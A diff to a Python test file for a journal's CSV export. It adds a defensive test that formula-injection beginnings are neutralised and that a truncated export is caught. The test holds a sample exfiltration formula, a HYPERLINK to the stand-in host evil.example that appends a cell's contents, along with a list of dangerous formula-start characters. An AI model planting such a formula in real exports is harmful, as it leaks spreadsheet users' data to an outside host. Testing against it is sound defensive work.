@@ -26,7 +26,10 @@ def _export(journal: Journal) -> str:
 
 
 def _rows(text: str) -> list[dict[str, str]]:
-    return list(csv.DictReader(io.StringIO(text, newline="")))
+    """The data rows of an export (without its end line)."""
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert rows[-1]["id"].startswith("# end of export: ")
+    return rows[:-1]
 
 
 def test_export_has_every_column_of_every_row(journal: Journal) -> None:
@@ -83,7 +86,7 @@ def test_an_altered_export_is_caught(journal: Journal) -> None:
     assert (result.broken_row_id, result.problem) == (4, ChainProblem.GAP)
 
     # The derived reference column is not part of the chain.
-    rows = _rows(text)
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
     rows[0]["pickup_reference"] = "PU-00000000"
     out = io.StringIO(newline="")
     writer = csv.DictWriter(out, fieldnames=CSV_COLUMNS)
@@ -100,3 +103,71 @@ def test_something_else_is_not_an_export() -> None:
     header = ",".join(CSV_COLUMNS)
     with pytest.raises(JournalFormatError, match="no valid row id"):
         verify_csv(io.StringIO(f"{header}\nx{',' * (len(CSV_COLUMNS) - 1)}\n"))
+
+
+#: Beginnings that make a spreadsheet read a cell as a formula (OWASP's list: = + - @ TAB CR),
+#: the line feed some importers treat like CR, the full-width forms some spreadsheets fold
+#: to the ASCII ones, a formula behind spaces (importers that trim), and the quote itself
+#: (so that the added quote can always be told from one that was there).
+DANGEROUS = (
+    "=",
+    "+",
+    "-",
+    "@",
+    "\t",
+    "\r",
+    "\n",
+    "\uff1d",
+    "\uff0b",
+    "\uff0d",
+    "\uff20",
+    "  =",
+    "'",
+)
+
+
+def test_formulas_are_neutralised_and_the_export_still_verifies(journal: Journal) -> None:
+    assert len(DANGEROUS) == 13
+    payload = 'HYPERLINK("http://evil.example/?"&A1,"Click")'
+    for n, start in enumerate(DANGEROUS, start=1):
+        pickup = collect(journal, n, title=f"{start}{payload}")
+        journal.begin_reverse(
+            collect_operation_id=pickup.operation_id, reason="other", note=f"{start}1+1"
+        )
+    text = _export(journal)
+    rows = _rows(text)
+    titles = [row["reward_title"] for row in rows if row["kind"] == "collect"]
+    notes = [row["note"] for row in rows if row["kind"] == "reverse"]
+    assert len(titles) == 2 * 13
+    assert len(notes) == 13
+    for n, start in enumerate(DANGEROUS):
+        assert titles[2 * n] == f"'{start}{payload}"
+        assert notes[n] == f"'{start}1+1"
+    # Every text cell, not just the titles and notes: no cell begins a formula.
+    for row in rows:
+        for name, cell in row.items():
+            assert not cell or cell[0] not in "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20", (name, cell)
+    # The quote comes off again for checking: the export still proves the journal.
+    result = verify_csv(io.StringIO(text, newline=""))
+    assert (result.ok, result.rows_checked) == (True, 3 * 13)
+    assert result.head_hash == journal.verify().head_hash
+
+
+def test_an_export_cut_short_is_caught(journal: Journal) -> None:
+    for n in range(1, 4):
+        collect(journal, n)
+    lines = _export(journal).splitlines(keepends=True)
+    assert lines[-1].startswith("# end of export: 6 rows with last hash ")
+
+    without_last_row = "".join(lines[:-2] + lines[-1:])
+    result = verify_csv(io.StringIO(without_last_row, newline=""))
+    assert not result.ok
+    assert result.problem is ChainProblem.CUT_SHORT
+    assert result.describe() == (
+        "Journal cut short: it says it has 6 rows but ends after row 5; the 5 rows it has "
+        "are intact"
+    )
+    with pytest.raises(JournalFormatError, match="no end line"):
+        verify_csv(io.StringIO("".join(lines[:-1]), newline=""))
+    with pytest.raises(JournalFormatError, match="after its end line"):
+        verify_csv(io.StringIO("".join(lines + lines[1:2]), newline=""))
